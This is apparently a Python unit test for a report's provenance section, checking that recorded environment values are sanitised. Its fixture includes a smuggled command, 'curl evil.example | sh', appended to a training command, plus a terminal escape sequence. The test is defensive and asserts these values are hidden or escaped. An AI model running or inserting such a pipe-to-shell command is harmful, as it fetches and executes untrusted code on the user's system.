from __future__ import annotations

from dataclasses import replace

from soar.report.sections.provenance import provenance
from tests.report.made import ENVIRONMENT, made_content
from tests.report.reading import read


def test_a_noted_command_is_shown_only_among_those_to_repeat() -> None:
    (run,) = made_content(1)
    noted = ENVIRONMENT | {"command": "soar train x; curl evil.example | sh", "gpu": "\x1b[2J" + "a" * 500}
    assessed = replace(run.assessment, environment=noted | {"command": "soar evaluate y"})
    text = read(provenance([replace(run, environment=noted, assessment=assessed)])).text
    assert "evil.example" not in text and "The assessment differs in:" not in text
    assert "\\x1b[2J" in text and "a" * 200 not in text
